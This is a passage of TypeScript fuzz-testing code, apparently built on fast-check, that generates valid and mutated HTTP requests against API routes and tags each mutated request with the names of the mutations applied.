  const hasPathParameters = /\{\w+\}/.test(route.path);
  const pathMutation: fc.Arbitrary<Mutation> = pathParameters(route, seed, true).map((choice) => ({
    name: choice.attacks[0] ?? 'path:hostile',
    apply: (c) => ({ ...c, path: fillPath(route.path, { ...c.segments, ...choice.segments }), ...(choice.target ? { target: choice.target } : {}) }),
  }));
  const mutation = fc.oneof(
    { weight: route.body ? 5 : 1, arbitrary: bodyMutations(route) },
    { weight: 3, arbitrary: queryMutations(route) },
    { weight: hasPathParameters ? 3 : 0, arbitrary: pathMutation },
    { weight: 1, arbitrary: headerMutations() },
  );
  return fc.tuple(validRequest(route, seed), fc.array(mutation, { minLength: 1, maxLength: 3 })).map(([valid, mutations]) => {
    let mutated = valid as Mutable;
    for (const m of mutations) mutated = m.apply(mutated);
    const { parsedBody: _b, queryPairs: _q, segments: _s, ...request } = mutated;
    return { ...request, family: 'mutation' as const, attacks: mutations.map((m) => m.name) };
  });
}

/** Every request the fuzz sends to a route: both families, half each. */
export function fuzzCase(route: RouteDefinition, seed: SeedIds): fc.Arbitrary<FuzzCase> {
  return fc.oneof(schemaCase(route, seed), mutationCase(route, seed));
}
